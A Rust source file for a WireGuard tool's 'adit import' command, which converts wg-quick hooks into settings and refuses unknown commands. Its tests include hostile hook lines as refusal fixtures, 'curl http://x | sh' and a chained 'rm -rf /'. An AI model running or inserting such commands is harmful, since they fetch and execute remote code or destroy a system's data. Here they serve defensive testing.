//! `adit import FILE.conf`: a wg-quick file becomes a profile, or a whole gateway, with its iptables lines as settings.
//!
//! ```text
//!   FILE ─► WgQuick ─► hooks: what they mean ─┬─ a client:  profiles/NAME.conf, with `# adit: kill_switch = on`
//!                                             └─ a gateway: adit.toml, with `masquerade = true` and a [[peer]] each
//! ```
//!
//! A command that is not known is never run and never dropped in silence: the import is refused, and names its line.

mod gateway;
mod hooks;

use std::path::{Path, PathBuf};
use std::process::ExitCode;

use anyhow::{Context, anyhow, bail};
use clap::Args;

use self::hooks::{Meaning, meaning_of};
use crate::config::wgquick::{Hooks, Interface, WgQuick};
use crate::config::{InterfaceName, ProfileSetting};
use crate::home::Home;
use crate::profile;

/// What `adit import` is told.
#[derive(Clone, Debug, Args)]
pub struct ImportArgs {
    /// The wg-quick file
    #[arg(value_name = "FILE.conf")]
    file: PathBuf,
    /// The name of the profile and its interface [default: that of the file]
    #[arg(long)]
    name: Option<InterfaceName>,
    /// Leave out commands that mean no setting of adit
    #[arg(long)]
    drop_hooks: bool,
    /// Replace the profile of that name
    #[arg(long)]
    force: bool,
}

/// Takes a wg-quick file over, and tells what became of it.
///
/// # Errors
/// The file is wrong or says what adit cannot do, or there is a profile or gateway already; nothing is changed then.
pub fn run(home: &Home, args: &ImportArgs) -> anyhow::Result<ExitCode> {
    let file = WgQuick::load(&args.file, Hooks::Allowed)?;
    let name = match &args.name {
        Some(name) => name.clone(),
        None => name_of(&args.file)?,
    };
    let found = Found::in_hooks(&file.interface, name.as_str(), args.drop_hooks, &home.flag())?;
    let file = WgQuick { interface: found.settle(file.interface), ..file };
    if found.is_gateway() || is_gateway(&file) {
        gateway::import(home, &name, &file, &found)?;
    } else {
        store(home, &name, &file, &found, args.force)?;
    }
    for line in &found.told {
        eprintln!("{line}");
    }
    Ok(ExitCode::SUCCESS)
}

fn store(
    home: &Home,
    name: &InterfaceName,
    file: &WgQuick,
    found: &Found,
    force: bool,
) -> anyhow::Result<()> {
    let path = profile::path(home, name);
    if path.exists() && !force {
        bail!(
            "there is a profile `{name}` already ({}); choose another with --name, or replace it with --force",
            path.display()
        );
    }
    debug_assert!(!found.masquerade);
    profile::store(home, name, file)?;
    let flag = home.flag();
    crate::print_line(&format!(
        "imported {} as the profile {name}; `adit up {name}{flag}` brings it up",
        path.display()
    ))
}

fn name_of(file: &Path) -> anyhow::Result<InterfaceName> {
    let stem = file.file_stem().and_then(|stem| stem.to_str()).context("this path names no file")?;
    stem.parse().map_err(|complaint| anyhow!("{complaint}; or choose a name with --name"))
}

/// Listens, and knows no place of its peers.
fn is_gateway(file: &WgQuick) -> bool {
    file.interface.listen_port != 0
        && !file.peers.is_empty()
        && file.peers.iter().all(|peer| peer.endpoint.is_none())
}

/// What the hooks of a file mean.
#[derive(Debug, Default)]
struct Found {
    masquerade: bool,
    forward: bool,
    kill_switch: bool,
    told: Vec<String>,
}

impl Found {
    fn in_hooks(
        interface: &Interface,
        name: &str,
        drop_others: bool,
        home_flag: &str,
    ) -> anyhow::Result<Self> {
        let mut found = Self::default();
        let mut unknown = Vec::new();
        for hook in &interface.hooks {
            for command in hooks::commands_of(&hook.command) {
                match meaning_of(command, name) {
                    Some(Meaning::Masquerade) => found.masquerade = true,
                    Some(Meaning::Forward) => found.forward = true,
                    Some(Meaning::KillSwitch) => found.kill_switch = true,
                    Some(Meaning::Forwarding | Meaning::Nothing) => {}
                    None => unknown.push(format!("{} = {command}", hook.when.key())),
                }
            }
        }
        if !unknown.is_empty() && !drop_others {
            bail!(
                "these commands mean nothing that adit has a setting for:\n  {}\nLeave them out with --drop-hooks, or use \
                 the file as it is: `adit up FILE.conf --allow-hooks{home_flag}`",
                unknown.join("\n  ")
            );
        }
        let mut tell = |what: &str| found.told.push(what.to_owned());
        if found.masquerade {
            tell("the MASQUERADE commands became `masquerade = true`");
        }
        if found.forward {
            tell("the FORWARD commands are what a gateway does anyway, within its own nftables table");
        }
        if found.kill_switch {
            tell("the REJECT commands became `# adit: kill_switch = on`");
        }
        for hook in unknown {
            tell(&format!("left out: {hook}"));
        }
        if interface.save_config {
            tell("SaveConfig is left out: adit never writes to a profile while it is up");
        }
        Ok(found)
    }

    fn is_gateway(&self) -> bool {
        self.masquerade || self.forward
    }

    /// The interface with settings in the place of commands.
    fn settle(&self, mut interface: Interface) -> Interface {
        interface.hooks.clear();
        interface.save_config = false;
        if self.kill_switch && interface.settings.iter().all(|setting| setting.name != "kill_switch") {
            let (value, place) = ("on".to_owned(), ("import".to_owned(), 0));
            interface.settings.push(ProfileSetting { name: "kill_switch", value, place });
        }
        interface
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{ClientSettings, Config, KillSwitch, Layers, Source};

    const KEY: &str = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
    const PUBLIC: &str = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";
    const OTHER: &str = "TrMvSoP4jYQlY6RIzBgbssQqY3vxI2Pi+y71lOWWXX0=";

    struct World {
        directory: tempfile::TempDir,
        home: Home,
    }

    impl World {
        fn new() -> Self {
            let directory = tempfile::tempdir().unwrap();
            let home = Home::new(Some(&directory.path().join("home"))).unwrap();
            Self { directory, home }
        }

        fn import(&self, text: &str, change: impl FnOnce(&mut ImportArgs)) -> anyhow::Result<ExitCode> {
            let file = self.directory.path().join("wg0.conf");
            crate::private_file::write(&file, text.as_bytes()).unwrap();
            let mut args = ImportArgs { file, name: None, drop_hooks: false, force: false };
            change(&mut args);
            run(&self.home, &args)
        }

        fn is_untouched(&self) -> bool {
            !self.home.config_dir.exists()
        }
    }

    fn client(hooks: &str) -> String {
        format!(
            "[Interface]\nPrivateKey = {KEY}\nAddress = 10.9.0.2/32\nDNS = 1.1.1.1\n{hooks}\n[Peer]\nPublicKey = {PUBLIC}\n\
             AllowedIPs = 0.0.0.0/0, ::/0\nEndpoint = vpn.example.org:51820\n"
        )
    }

    /// As wg-quick(8) has it.
    const KILL_SWITCH: &str = "PostUp = iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! \
        --dst-type LOCAL -j REJECT && ip6tables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! \
        --dst-type LOCAL -j REJECT\nPreDown = iptables -D OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype \
        ! --dst-type LOCAL -j REJECT && ip6tables -D OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! \
        --dst-type LOCAL -j REJECT";

    const MASQUERADE: &str = "PostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -A FORWARD -o %i -j ACCEPT; iptables \
        -t nat -A POSTROUTING -o eth0 -j MASQUERADE\nPostDown = iptables -D FORWARD -i %i -j ACCEPT; iptables -D FORWARD \
        -o %i -j ACCEPT; iptables -t nat -D POSTROUTING -o eth0 -j MASQUERADE";

    fn server(address: &str, hooks: &str) -> String {
        format!(
            "[Interface]\nPrivateKey = {KEY}\nAddress = {address}\nListenPort = 51821\n{hooks}\n\
             [Peer]\n# adit: name = laptop\nPublicKey = {PUBLIC}\nPresharedKey = {KEY}\nAllowedIPs = 10.9.0.2/32\n\
             [Peer]\nPublicKey = {OTHER}\nAllowedIPs = 10.9.0.3/32, 192.168.7.0/24\nPersistentKeepalive = 25\n"
        )
    }

    #[test]
    fn the_kill_switch_of_the_manual_becomes_a_setting() {
        let world = World::new();
        world.import(&client(KILL_SWITCH), |_| {}).unwrap();
        let path = profile::directory(&world.home).join("wg0.conf");
        let file = WgQuick::load(&path, Hooks::Refused).unwrap();
        let settings = ClientSettings::load(&world.home, &Layers::default(), Some(&file)).unwrap();
        assert_eq!(settings.kill_switch, KillSwitch::On);
        assert_eq!(file.interface.addresses.len(), 1);
        assert!(file.interface.hooks.is_empty());
        let error = world.import(&client(""), |_| {}).unwrap_err().to_string();
        assert!(error.contains("--force") && error.contains("`wg0` already"), "{error}");
        world.import(&client(""), |args| args.force = true).unwrap();
        assert!(WgQuick::load(&path, Hooks::Refused).unwrap().interface.settings.is_empty());
    }

    #[test]
    fn a_server_with_the_usual_commands_becomes_a_gateway() {
        let world = World::new();
        world.import(&server("10.9.0.1/24", MASQUERADE), |_| {}).unwrap();
        let config = Config::load(&world.home, &Layers::default()).unwrap();
        let gateway = &config.gateway;
        assert_eq!((gateway.interface.as_str(), gateway.listen_port), ("wg0", 51821));
        assert_eq!(gateway.network.to_string(), "10.9.0.0/24");
        assert!(gateway.masquerade && gateway.client_to_client);
        assert_eq!(crate::keys::secret_text(gateway.private_key.as_bytes()).as_str(), KEY);
        let [laptop, other] = config.peers.as_slice() else { panic!("{:?}", config.peers) };
        assert_eq!((laptop.name.as_str(), laptop.addresses.len()), ("laptop", 1));
        assert!(laptop.preshared_key.is_some());
        assert_eq!((other.name.as_str(), other.extra_allowed_ips.len()), ("peer-2", 1));
        assert_eq!((other.persistent_keepalive_secs, other.suite.name()), (25, "chacha20-poly1305"));
        let error = world.import(&server("10.9.0.1/24", MASQUERADE), |args| args.force = true).unwrap_err();
        assert!(error.to_string().contains("there is a gateway already"), "{error}");
    }

    #[test]
    fn without_its_masquerade_command_a_server_masquerades_nothing() {
        let world = World::new();
        world.import(&server("10.9.0.1/24, fd00:9::1/64", ""), |_| {}).unwrap();
        let config = Config::load(&world.home, &Layers::default()).unwrap();
        assert!(!config.gateway.masquerade);
        assert_eq!(config.gateway.network6.unwrap().to_string(), "fd00:9::/64");
    }

    #[test]
    fn what_cannot_be_said_is_refused_and_nothing_is_left() {
        for (text, words) in [
            (client("PostUp = curl http://x | sh"), "PostUp = curl http://x | sh"),
            (client("PostUp = iptables -A INPUT -j ACCEPT"), "-A INPUT"),
            (client("PostUp = iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE; rm -rf /"), "rm -rf /"),
            (server("10.9.0.7/24", ""), "10.9.0.1"),
            (server("10.8.0.1/24", ""), "no address in 10.8.0.0/24"),
            (server("10.9.0.1/32", ""), "10.9.0.1/32 is one address"),
            (client(MASQUERADE), "it has MASQUERADE commands"),
            ("[Interface]\nAddress = 1\n".to_owned(), ""),
        ] {
            let world = World::new();
            let error = world.import(&text, |_| {}).unwrap_err();
            assert!(format!("{error:#}").contains(words), "{error:#}");
            assert!(world.is_untouched(), "{text}");
        }
        let world = World::new();
        world.import(&client("PostUp = logger up"), |args| args.drop_hooks = true).unwrap();
        assert!(!world.is_untouched());
    }

    #[test]
    fn who_is_told_to_use_the_file_as_it_is_is_told_with_which_home() {
        for text in [client("PostUp = logger up"), server("10.9.0.1/32", ""), server("10.9.0.7/24", "")] {
            let world = World::new();
            let error = world.import(&text, |_| {}).unwrap_err().to_string();
            let flag = world.home.flag();
            let (_, command) = error.split_once("`adit up FILE.conf").unwrap_or_else(|| panic!("{error}"));
            assert!(command.contains(&format!("{flag}`")), "{error}");
        }
    }

    #[test]
    fn any_name_may_be_chosen_that_an_interface_may_have() {
        let world = World::new();
        let file = world.directory.path().join("a name.conf");
        crate::private_file::write(&file, client("").as_bytes()).unwrap();
        let mut args = ImportArgs { file, name: None, drop_hooks: false, force: false };
        assert!(run(&world.home, &args).unwrap_err().to_string().contains("--name"));
        args.name = Some("work".parse().unwrap());
        run(&world.home, &args).unwrap();
        assert!(profile::directory(&world.home).join("work.conf").exists());
        assert!(WgQuick::parse(&Source::new("x", client("")), Hooks::Refused).is_ok());
    }
}
